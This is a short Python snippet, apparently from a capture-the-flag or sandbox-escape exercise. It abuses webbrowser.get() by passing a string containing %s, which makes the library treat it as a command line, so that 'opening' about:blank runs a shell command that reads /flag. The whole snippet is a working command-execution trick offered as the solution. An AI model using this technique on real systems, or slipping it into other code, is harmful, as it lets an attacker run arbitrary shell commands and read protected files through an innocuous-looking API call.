# webbrowser.get() treats any string containing %s as a command line and
# wraps it in GenericBrowser, so "opening a URL" runs sh -c 'cat /flag'.
import webbrowser

launcher = webbrowser.get('/bin/sh -c "cat /flag" %s')
launcher.open('about:blank')
